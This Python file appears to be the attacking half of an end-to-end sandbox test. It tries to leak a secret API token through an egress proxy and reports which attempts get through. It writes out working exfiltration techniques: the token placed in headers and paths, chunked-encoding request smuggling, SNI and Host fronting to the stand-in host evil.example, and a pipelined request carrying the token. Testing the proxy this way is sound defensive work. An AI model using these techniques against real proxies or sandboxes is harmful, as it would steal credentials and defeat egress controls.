"""The hostile agent of test_secrets_e2e, run inside the sandbox (plain python3, no so).

It tries every way it knows to get the real value behind ``$API_TOKEN`` through the
egress proxy, each next to a control that must work, and prints one ``RESULT {...}``
line, a Python literal (the Docker image's python3-minimal has no json module):
``{name: outcome}``, where an outcome is a status and the text that came back,
``"closed"`` (the proxy ended the connection) or ``"tls-refused"``."""

import os
import socket
import ssl
import sys

PROXY = ("127.0.0.1", 3128)
HOST = "localhost"
PORT = int(sys.argv[1])
PLAIN_PORT = int(sys.argv[2])
TOKEN = os.environ.get("API_TOKEN", "")
results: dict[str, object] = {"token": TOKEN, "ssl_cert_file": os.environ.get("SSL_CERT_FILE")}


def tunnel(server_hostname: str = HOST) -> ssl.SSLSocket:
    raw = socket.create_connection(PROXY, timeout=20)
    raw.sendall(f"CONNECT {HOST}:{PORT} HTTP/1.1\r\nHost: {HOST}:{PORT}\r\n\r\n".encode())
    reply = b""
    while b"\r\n\r\n" not in reply:
        data = raw.recv(4096)
        if not data:
            raise ConnectionError("proxy closed")
        reply += data
    if b" 200 " not in reply.split(b"\r\n")[0]:
        raise ConnectionError(reply.decode(errors="replace"))
    context = ssl.create_default_context()  # SSL_CERT_FILE: the session CA
    context.check_hostname = False  # the name is the attack; the chain is still checked
    return context.wrap_socket(raw, server_hostname=server_hostname)


def read_all(sock: socket.socket) -> bytes:
    out = b""
    try:
        while data := sock.recv(65536):
            out += data
    except (OSError, ssl.SSLError):
        pass
    return out


def outcome(data: bytes) -> object:
    if not data:
        return "closed"
    status = data.split(b"\r\n", 1)[0].split(b" ")
    return {"status": int(status[1]) if len(status) > 1 else 0, "text": data.decode("latin-1")}


def exchange(request: bytes, server_hostname: str = HOST) -> object:
    try:
        sock = tunnel(server_hostname)
    except ssl.SSLError:
        return "tls-refused"
    except ConnectionError as exc:
        return f"connect-refused {exc}"
    sock.sendall(request)
    return outcome(read_all(sock))


def get(path: str, headers: str, host: str = f"{HOST}:{PORT}") -> bytes:
    return (f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{headers}Connection: close\r\n\r\n").encode()


auth = f"Authorization: Bearer {TOKEN}\r\n"
results["control"] = exchange(get("/echo", auth))
results["control_api_key"] = exchange(get("/echo", f"X-Api-Key: {TOKEN}\r\n"))
results["header_name"] = exchange(get("/echo", f"X-{TOKEN}: 1\r\n"))
for header in ("Cookie", "Origin", "X-Request-Id"):
    results[f"echo_{header}"] = exchange(get("/echo", f"{header}: {TOKEN}\r\n"))
results["path"] = exchange(get(f"/echo?{TOKEN}", ""))

post = f"POST /upload HTTP/1.1\r\nHost: {HOST}:{PORT}\r\n{auth}Transfer-Encoding: chunked\r\n\r\n"
smuggled = f"GET /smuggled HTTP/1.1\r\nHost: {HOST}:{PORT}\r\nCookie: {TOKEN}\r\n\r\n"
results["chunked_control"] = exchange(f"{post}5\r\nhello\r\n0\r\n\r\n".encode() + get("/after", ""))
results["chunk_ext"] = exchange(f"{post}0;ext\n\n{smuggled}".encode())
results["bare_lf_trailer"] = exchange(f"{post}0\r\nX: y\n\n{smuggled}".encode())
results["chunk_ext_plain"] = exchange(f"{post}5;name=v\r\nhello\r\n0\r\n\r\n".encode())

results["sni_control"] = exchange(get("/echo", auth), server_hostname=HOST)
results["sni_fronting"] = exchange(get("/echo", auth), server_hostname="evil.example")
results["host_fronting"] = exchange(get("/echo", auth, host="evil.example"))

# Plain HTTP through the proxy: a second request pipelined after an allowed first one.
raw = socket.create_connection(PROXY, timeout=20)
first = f"GET http://{HOST}:{PLAIN_PORT}/first HTTP/1.1\r\nHost: {HOST}:{PLAIN_PORT}\r\n\r\n"
second = f"GET /pipelined HTTP/1.1\r\nHost: evil.example\r\nCookie: {TOKEN}\r\n\r\n"
raw.sendall((first + second).encode())
results["pipelined"] = outcome(read_all(raw))

print("RESULT " + repr(results), flush=True)
with open("/workspace/agent-saw.txt", "w") as f:
    f.write(repr({"env": dict(os.environ), "results": results}))
